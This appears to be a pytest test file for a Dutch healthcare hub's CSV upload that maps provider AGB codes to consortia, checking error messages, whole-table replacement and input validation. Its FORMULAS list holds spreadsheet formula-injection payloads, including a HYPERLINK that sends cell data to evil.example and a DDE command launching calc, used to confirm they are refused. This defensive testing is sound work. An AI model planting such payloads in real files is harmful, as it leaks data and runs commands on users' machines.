"""The provider → consortium table upload: format, errors naming line and column, replacement as a whole,
and no name that a spreadsheet would read as a formula."""

import csv
import io

import pytest

from hub.services import consortia
from shared.errors import InputError
from tests.hub.web.helpers import csrf_token


def test_import_replaces_table_and_pads_agb(app):
    raw = "aanbieder_agb;aanbieder_naam;consortium\n1000001;Praktijk A;Lek\n11000002;;Lek\n11000003;Zorg C;Vaart\n".encode()
    result = consortia.import_csv(raw, "tabel.csv")
    assert (result.rows_read, result.consortia) == (3, 2)
    assert ("01000001", "Praktijk A", "Lek") in consortia.current_table()
    consortia.import_csv(b"\xef\xbb\xbfaanbieder_agb,consortium\n11000009,Nieuw\n", "tweede.csv")
    assert consortia.current_table() == [("11000009", "", "Nieuw")]


def test_bad_rows_reject_the_whole_file_with_line_and_column(app):
    consortia.import_csv(b"aanbieder_agb;consortium\n11000001;Lek\n", "goed.csv")
    raw = "aanbieder_agb;consortium\nABC;Lek\n11000002;\n11000003;Lek\n11000003;Vaart\n".encode("cp1252")
    with pytest.raises(InputError) as exc:
        consortia.import_csv(raw, "fout.csv")
    msg = exc.value.message
    assert "fout.csv" in msg and "regel 2, kolom aanbieder_agb" in msg and "regel 3, kolom consortium" in msg
    assert "regel 5" in msg and "3 fout(en)" in msg
    assert consortia.current_table() == [("11000001", "", "Lek")]  # unchanged


def test_missing_column_is_named(app):
    with pytest.raises(InputError) as exc:
        consortia.import_csv(b"agb;naam\n1;2\n", "x.csv")
    assert "consortium" in exc.value.message and "regel 1" in exc.value.message


FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&B2,"Klik hier")', "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+2", "-2")


@pytest.mark.parametrize("column", ["consortium", "aanbieder_naam"])
def test_names_a_spreadsheet_would_read_as_formulas_are_refused(app, column):
    consortia.import_csv(b"aanbieder_agb;consortium\n11000001;Lek\n", "goed.csv")
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=";")
    writer.writerow(["aanbieder_agb", "aanbieder_naam", "consortium"])
    for i, name in enumerate(FORMULAS):
        writer.writerow([f"1100001{i}", name if column == "aanbieder_naam" else "Zorg", name if column == "consortium" else "Lek"])
    with pytest.raises(InputError) as exc:
        consortia.import_csv(buf.getvalue().encode(), "formules.csv")
    msg = exc.value.message
    assert f"{len(FORMULAS)} fout(en)" in msg and "formule" in msg
    for line in range(2, 2 + len(FORMULAS)):
        assert f"regel {line}, kolom {column}: begint met" in msg
    assert consortia.current_table() == [("11000001", "", "Lek")]  # unchanged


def test_control_characters_and_overlong_names_are_refused(app):
    raw = ('aanbieder_agb;aanbieder_naam;consortium\n11000001;"Zorg\nEen";Lek\n11000002;Zorg;Lek\x07\n'
           f"11000003;{'z' * 201};Lek\n").encode()
    with pytest.raises(InputError) as exc:
        consortia.import_csv(raw, "x.csv")
    msg = exc.value.message
    assert "regel 2, kolom aanbieder_naam: bevat een onzichtbaar stuurteken" in msg
    assert "kolom consortium: bevat een onzichtbaar stuurteken" in msg and "langer dan 200 tekens" in msg


def test_a_field_over_the_csv_limit_is_refused_with_its_line(app):
    raw = b"aanbieder_agb;consortium\n11000001;Lek\n11000002;" + b"x" * 140_000 + b"\n"
    with pytest.raises(InputError) as exc:
        consortia.import_csv(raw, "groot.csv")
    assert exc.value.code == "bad_consortium_file" and "groot.csv, regel 3" in exc.value.message


def test_the_upload_page_answers_a_bad_file_in_dutch(client_as):
    client = client_as("regio_admin")
    for raw in (b"aanbieder_agb;consortium\n11000001;" + b"x" * 140_000 + b"\n",
                b"aanbieder_agb;consortium\n11000001;=1+1\n"):
        data = {"csrf_token": csrf_token(client, "/beheer/consortia"), "bestand": (io.BytesIO(raw), "t.csv")}
        resp = client.post("/beheer/consortia", data=data, content_type="multipart/form-data")
        assert resp.status_code == 400 and "regel 2" in resp.get_data(as_text=True)
